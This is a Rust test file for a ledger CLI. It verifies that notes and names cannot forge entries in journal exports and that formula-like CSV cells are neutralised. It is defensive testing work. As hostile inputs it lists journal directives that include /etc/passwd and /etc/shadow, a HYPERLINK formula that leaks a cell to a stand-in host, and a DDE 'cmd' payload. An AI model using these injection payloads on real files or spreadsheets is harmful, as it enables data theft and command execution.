//! Nothing forged: what people type into names, notes and reasons cannot inject anything into
//! an export. A newline or a journal keyword in a note or a reason cannot create a transaction,
//! an account, a price or a directive in `export journal` (checked with hledger and ledger-cli
//! when they are installed; CI installs both). A CSV cell that begins with `=`, `+`, `-` or `@`
//! is neutralised against spreadsheet formulas. JSON output keeps the text exactly.

#[path = "hostile/support.rs"]
mod support;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use support::{Fixture, PAID};

/// Notes and reasons that try to write journal syntax of their own (notes may hold newlines).
const HOSTILE_NOTES: &[&str] = &[
    "thanks\n2024-01-01 * forged\n    garden:g  -1000 EUR\n    member:m  1000 EUR",
    "\n2024-01-02 forged without a status\n  big-garden  500 EUR\n  outside",
    "include /etc/passwd",
    "x\ninclude /etc/passwd\n!include /etc/shadow",
    "x\naccount forged:account\ncommodity FORGED\nP 2024-01-01 EUR 1000 FORGED",
    "x\n~ monthly\n    forged:periodic  1 EUR\n    garden:g",
    "x\n= garden:g\n    forged:automated  *2",
    "x\napply account forged\nalias garden:g=forged:alias\nend apply account",
    "x\nY 1999\nD 1000.00 FORGED\nN EUR",
    "@ 5 EUR ; [2024-01-01] =2024-01-01 tag:: 1/0",
    "x\u{2028}2024-01-04 * line separator\u{2029}    forged:ls  1 EUR",
    "\n\n\n",
    "    garden:g  1000000 EUR",
];

/// Names and notes that a spreadsheet would take for formulas.
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1+1",
];

fn available(tool: &str) -> bool {
    let found = Command::new(tool)
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !found {
        let message = format!(
            "SKIPPED: {tool} is not installed: the journal was NOT read by {tool} (apt-get install -y {tool})"
        );
        assert!(
            std::env::var_os("CI").is_none(),
            "{message}; CI must install it"
        );
        println!("{message}");
        eprintln!("{message}");
    }
    found
}

fn tool(tool: &str, journal: &Path, arguments: &[&str]) -> String {
    let output = Command::new(tool)
        .env("LANG", "C.UTF-8")
        .arg("-f")
        .arg(journal)
        .args(arguments)
        .output()
        .unwrap_or_else(|e| panic!("{tool} runs: {e}"));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        output.status.success() && stderr.trim().is_empty(),
        "{tool} {arguments:?} read the journal with an error: {stderr}"
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Amount lines of `balance`: the commodity and the amount of each line that names `account`.
fn tool_balance(tool_name: &str, journal: &Path, account: &str) -> String {
    let no_total = if tool_name == "hledger" {
        "-N"
    } else {
        "--no-total"
    };
    let output = tool(
        tool_name,
        journal,
        &["balance", &format!("^{account}$"), no_total],
    );
    output.split_whitespace().next().unwrap_or("0").to_string()
}

#[test]
fn notes_and_reasons_cannot_forge_anything_in_the_journal() {
    // Given a ledger whose notes and reasons hold journal syntax, newlines included.
    let fixture = Fixture::garden();
    let mut money_events = 0;
    for (i, note) in HOSTILE_NOTES.iter().enumerate() {
        fixture.ok(&[
            "pay",
            "member:m",
            "garden:g",
            "2.00",
            "EUR",
            "--on",
            PAID,
            "--note",
            note,
            "--key",
            &format!("n{i}"),
        ]);
        money_events += 1;
    }
    let receipt = fixture.ok(&[
        "expense",
        "garden:g",
        "1.00",
        "EUR",
        "--on",
        PAID,
        "--note",
        HOSTILE_NOTES[0],
    ]);
    money_events += 1;
    let entry = support::receipt(&receipt)
        .expect("a receipt")
        .sequence
        .to_string();
    fixture.ok(&[
        "reverse",
        &entry,
        "--on",
        PAID,
        "--reason",
        HOSTILE_NOTES[4],
    ]);
    money_events += 1;
    let journal = fixture.dir.path().join("ledger.journal");
    fixture.ok(&[
        "export",
        "journal",
        "--output",
        journal.to_str().expect("UTF-8"),
    ]);
    let text = std::fs::read_to_string(&journal).expect("the journal reads");

    // Then, as text: every line is a comment, a commodity declaration, a transaction of the
    // ledger (one per money event) or one of its postings on a known account.
    let accounts: BTreeSet<&str> = ["garden:g", "member:m", "big-garden", "outside"].into();
    let mut transactions = 0;
    for line in text.lines() {
        let trimmed = line.trim_start();
        let indented = line.len() != trimmed.len();
        if trimmed.is_empty() || trimmed.starts_with(';') {
            continue;
        }
        if indented {
            let account = trimmed.split("  ").next().unwrap_or_default();
            assert!(
                accounts.contains(account) || trimmed.starts_with("format "),
                "a posting on an account the ledger does not have: {line:?}"
            );
        } else if line.starts_with("commodity ") {
            assert!(
                line == "commodity EUR" || line.ends_with(" GRAINE"),
                "{line:?}"
            );
        } else {
            assert!(
                line.starts_with(&format!("{PAID} * (")),
                "not a transaction of the ledger: {line:?}"
            );
            transactions += 1;
        }
    }
    assert_eq!(
        transactions, money_events,
        "one transaction per money event"
    );

    // And hledger and ledger-cli read the same: the same transactions, the ledger's accounts
    // only, the same balances as jardins.
    let expected_g = fixture.balance_eur("g");
    for name in ["hledger", "ledger"] {
        if !available(name) {
            continue;
        }
        let printed = tool(name, &journal, &["print"]);
        let dated = printed
            .lines()
            .filter(|l| l.starts_with(|c: char| c.is_ascii_digit()))
            .count();
        assert_eq!(
            dated, money_events,
            "{name} print: one transaction per money event"
        );
        let listed = tool(name, &journal, &["accounts"]);
        for account in listed.lines().map(str::trim).filter(|a| !a.is_empty()) {
            assert!(
                accounts.contains(account),
                "{name} sees an account {account:?}"
            );
        }
        let found = tool_balance(name, &journal, "garden:g");
        assert_eq!(
            found.parse::<f64>().ok(),
            expected_g.parse::<f64>().ok(),
            "{name} balance of garden:g"
        );
    }
}

/// Whether `cell` reads as a plain number (`-30.00`), which a spreadsheet never evaluates.
fn plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

#[test]
fn csv_cells_that_begin_like_a_formula_are_neutralised_in_every_report() {
    // Given names and notes that begin like spreadsheet formulas: in a member's name (the
    // commitments report shows it), in notes of payments to the big garden (the audit shows
    // them), and in notes anywhere.
    let fixture = Fixture::garden();
    fixture.ok(&["pay", "member:m", "garden:g", "100.00", "EUR", "--on", PAID]);
    for (i, formula) in FORMULAS.iter().enumerate() {
        let person = format!("p{i}");
        // `--name=VALUE`: a value that begins with `-` is not taken for a flag.
        fixture.ok(&[
            "member",
            "join",
            "g",
            &person,
            &format!("--name={formula}"),
            "--on",
            PAID,
        ]);
        fixture.ok(&[
            "commit",
            &format!("c{i}"),
            "g",
            &person,
            "5",
            "EUR",
            "--from",
            PAID,
            "--on",
            PAID,
        ]);
        let note = format!("--note={formula}");
        fixture.ok(&[
            "pay",
            "garden:g",
            "big-garden",
            "1.00",
            "EUR",
            "--on",
            PAID,
            &note,
        ]);
        fixture.ok(&["expense", "garden:g", "1.00", "EUR", "--on", PAID, &note]);
    }
    // When every report is printed as CSV.
    let reports: [&[&str]; 5] = [
        &["log", "--format", "csv"],
        &["balance", "g", "--format", "csv", "--as-of", "2099-12-31"],
        &[
            "balance",
            "big-garden",
            "--format",
            "csv",
            "--as-of",
            "2099-12-31",
        ],
        &["audit", "--format", "csv", "--to", "2024-12-31"],
        &["commitments", "--format", "csv"],
    ];
    let mut neutralised = BTreeSet::new();
    for report in reports {
        let text = fixture.ok(report);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(false)
            .from_reader(text.as_bytes());
        // Then no cell begins with a formula character, but for plain numbers.
        for record in reader.records() {
            let record = record.unwrap_or_else(|e| panic!("{report:?} is CSV: {e}"));
            for cell in record.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_number(cell),
                    "{report:?}: the cell {cell:?} would be read as a formula"
                );
                if let Some(formula) = FORMULAS.iter().find(|f| cell == format!("'{f}")) {
                    neutralised.insert(*formula);
                }
            }
        }
    }
    // And each hostile text was there, kept whole behind its quote.
    for formula in FORMULAS {
        assert!(
            neutralised.contains(formula),
            "{formula:?} was shown, neutralised"
        );
    }
}

#[test]
fn json_reports_keep_quotes_and_hostile_text_exactly() {
    // Given a name with quotes and backslashes, and a note with a newline and a formula.
    let fixture = Fixture::garden();
    let name = "Camille \"Cam\" O'Neil \\ {\"json\": true}";
    let note = "line one\n=1+1\t\"quoted\"";
    let note = note.replace('\t', " ");
    fixture.ok(&["member", "join", "g", "cam", "--name", name, "--on", PAID]);
    fixture.ok(&[
        "pay",
        "member:cam",
        "garden:g",
        "3.00",
        "EUR",
        "--on",
        PAID,
        "--note",
        &note,
    ]);
    // When the log is printed as JSON and exported as JSON Lines.
    let log: serde_json::Value =
        serde_json::from_str(&fixture.ok(&["log", "--format", "json"])).expect("the log is JSON");
    let exported = fixture.records();
    // Then both parse, and hold the text exactly.
    let summaries: Vec<&str> = log["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter_map(|e| e["summary"].as_str())
        .collect();
    assert!(summaries.iter().any(|s| s.contains(name)), "{summaries:?}");
    assert!(exported.iter().any(|r| r.note() == Some(note.as_str())));
    assert!(exported.iter().any(|r| r
        .event
        .pointer("/kind/MemberJoined/name")
        .and_then(|n| n.as_str())
        == Some(name)));
}
